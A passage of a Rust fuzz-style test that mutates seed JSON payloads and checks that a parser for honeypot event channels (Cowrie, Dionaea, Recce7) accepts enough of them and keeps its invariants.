                let mut v: Value = serde_json::from_str(seed).unwrap();
                for _ in 0..=rng.below(3) {
                    mutate(&mut v, &mut rng, 0);
                }
                let bytes = serde_json::to_vec(&v).unwrap();
                for ch in [channel, RECCE7_CHANNEL, COWRIE_CHANNEL, DIONAEA_CHANNEL] {
                    if let Ok(p) = parse(ch, IDENT, &bytes, l) {
                        accepted[channel_kind(ch) as usize] += 1;
                        check_invariants(&p);
                    }
                }
            }
        }
        // The mutations must leave some payloads valid, or the test explores nothing.
        assert!(accepted.iter().all(|&n| n > 100), "{accepted:?}");
    }
}
